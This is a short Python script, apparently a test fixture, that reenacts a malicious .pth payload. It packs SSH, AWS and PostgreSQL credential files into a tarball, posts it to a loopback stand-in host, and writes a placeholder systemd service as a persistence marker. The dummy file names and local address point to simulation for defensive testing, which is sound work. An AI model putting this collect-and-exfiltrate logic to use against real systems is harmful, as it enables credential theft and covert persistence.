# SPDX-License-Identifier: Apache-2.0
"""What the .pth file pipes into another Python: collects credentials, packs them, sends them, stays."""
import os
import tarfile
import urllib.request

home, packed = os.environ["HOME"], os.environ["TMPDIR"] + "/tpcp.tar.gz"
with tarfile.open(packed, "w:gz") as file:
    for name in (".ssh/id_dummy", ".aws/credentials", ".pgpass"):
        file.add(f"{home}/{name}", arcname=name)
with open(packed, "rb") as file:
    urllib.request.urlopen(f"http://127.0.0.66:{os.environ['PEER_PORT']}/v1", data=file.read(), timeout=5).read()
os.makedirs(f"{home}/.config/systemd/user", exist_ok=True)
with open(f"{home}/.config/systemd/user/sysmon.service", "w", encoding="ascii") as file:
    file.write("# DUMMY\n")
